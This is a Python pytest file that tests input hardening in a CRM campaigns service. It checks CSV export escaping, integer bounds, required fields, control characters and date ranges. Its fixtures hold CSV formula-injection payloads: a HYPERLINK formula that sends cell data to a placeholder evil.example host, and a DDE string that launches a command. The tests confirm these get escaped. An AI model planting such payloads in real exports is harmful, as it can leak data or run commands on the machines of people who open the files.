"""What a fuzzer and a careful tester found in the campaigns service (issue 19): formulas
in the CSV exports, numbers too large for a column, null for a field that cannot be
empty, control characters and years like 0001 or 9999."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx
import pytest
from campaigns_rules import copy_contact, create_opportunity
from fastapi import FastAPI
from pydantic import ValidationError

from crm_campaigns.campaigns.schemas import CampaignCreate
from crm_campaigns.crm_settings.schemas import CrmSettingsData
from crm_campaigns.dashboard.service import DashboardService
from crm_campaigns.opportunities.schemas import (
    FilterDep,
    OpportunityCreate,
    OpportunityFilter,
    OpportunityUpdate,
)
from crm_campaigns.opportunities.service import OpportunityService
from crm_campaigns.settings import Settings
from crm_shared.errors import install_problem_handlers
from crm_shared.events import CrmProperties
from crm_shared.service import Runtime

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'


def rows(lines: list[str]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO("".join(lines))))


async def test_the_exports_escape_cells_a_spreadsheet_would_run_as_formulas(
    runtime: Runtime[Settings],
) -> None:
    contact = await copy_contact(
        runtime, name="+cmd|' /C calc'!A0", crm=CrmProperties(company_group="@SUM(A1:A9)")
    )
    await create_opportunity(runtime, contact, title=FORMULA, expected_users=25)
    async with runtime.database.unit_of_work() as session:
        service = OpportunityService(session, runtime)
        lines = [line async for line in service.export(runtime.database, OpportunityFilter())]
        [line] = rows(lines)
        dashboard = DashboardService(session, runtime)
        [group] = rows(list(await dashboard.export(OpportunityFilter(), "company_group")))
    assert line["title"] == "'" + FORMULA
    assert line["contact_name"] == "'+cmd|' /C calc'!A0"
    assert line["company_group"] == "'@SUM(A1:A9)"
    assert (line["expected_users"], line["revenue_potential"]) == ("25", "12500.00")
    assert (group["company_group"], group["count"]) == ("'@SUM(A1:A9)", "1")


@pytest.mark.parametrize("users", [2**31, 2**63, 10**26])
def test_expected_users_fit_their_column(users: int) -> None:
    body = {
        "contact_id": "c",
        "title": "T",
        "crm_status": "Neu",
        "closing_probability": 10,
        "revenue_potential": "1",
        "expected_users": users,
    }
    for model in (OpportunityCreate, OpportunityUpdate):
        with pytest.raises(ValidationError) as refused:
            model.model_validate(body)
        assert [e["loc"] for e in refused.value.errors()] == [("expected_users",)]
    with pytest.raises(ValidationError):
        CrmSettingsData.model_validate(
            {"opportunity_statuses": ["Neu"], "company_sizes": [{"name": "x", "min": users}]}
        )


async def test_the_users_filter_is_bounded_to_what_a_column_holds() -> None:
    app = FastAPI()
    install_problem_handlers(app)

    @app.get("/filter")
    async def show(flt: FilterDep) -> dict[str, Any]:
        return {"users_from": flt.users_from, "users_to": flt.users_to}

    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app=app), base_url="http://t"
    ) as client:
        for query in ("users_from=1e26", f"users_to={10**26}", f"users_from={2**63}"):
            answer = await client.get(f"/filter?{query}")
            assert answer.status_code == 422, query
            assert answer.json()["errors"][0]["field"] == query.split("=")[0]
        assert (await client.get("/filter?crm_status=a%00b")).status_code == 422
        ok = await client.get(f"/filter?users_from=0&users_to={2**31 - 1}")
        assert ok.json() == {"users_from": 0, "users_to": 2**31 - 1}


@pytest.mark.parametrize(
    "name", ["title", "crm_status", "contact_id", "closing_probability", "revenue_potential"]
)
def test_null_for_a_field_of_an_opportunity_that_cannot_be_empty_is_refused(name: str) -> None:
    with pytest.raises(ValidationError) as refused:
        OpportunityUpdate.model_validate({name: None})
    assert [(e["loc"], e["type"]) for e in refused.value.errors()] == [((name,), "not_null")]
    cleared = OpportunityUpdate.model_validate({"expected_users": None, "assignee_id": None})
    assert cleared.model_dump(exclude_unset=True) == {"expected_users": None, "assignee_id": None}


def test_control_characters_and_years_out_of_range_are_refused() -> None:
    campaign = {"name": "Frühjahr", "starts_on": "2026-03-01", "ends_on": "2026-05-31"}
    for change, field in (
        ({"name": "Früh\x00jahr"}, "name"),
        ({"description": "a\x1bb"}, "description"),
        ({"products": ["A\x00"]}, "products.0"),
        ({"starts_on": "0001-01-01"}, "starts_on"),
        ({"ends_on": "9999-12-31"}, "ends_on"),
    ):
        with pytest.raises(ValidationError) as refused:
            CampaignCreate.model_validate({**campaign, **change})
        assert ".".join(map(str, refused.value.errors()[0]["loc"])) == field
    assert CampaignCreate.model_validate({**campaign, "description": "a\tb\nc"}).description
    with pytest.raises(ValidationError):
        OpportunityUpdate.model_validate({"title": "T\x07"})
    with pytest.raises(ValidationError):
        CrmSettingsData.model_validate({"opportunity_statuses": ["Neu\x00"]})
